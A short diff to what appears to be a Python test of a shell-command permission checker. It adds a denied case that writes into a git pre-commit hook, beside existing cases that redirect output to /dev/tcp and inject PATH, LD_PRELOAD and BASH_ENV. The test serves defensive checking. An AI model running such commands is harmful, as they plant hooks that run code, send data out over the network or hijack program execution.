@@ -260,6 +260,7 @@ def test_denied_options_are_found_in_every_form(command: str, tmp_path: Path) ->
         "cd && ls > x",
         "ls > /dev/tcp/host/80",
         "ls > .cfs/rules.toml",
+        "ls > .git/hooks/pre-commit",
         "PATH=. ls",
         "LD_PRELOAD=x ls",
         "BASH_ENV=x ls",
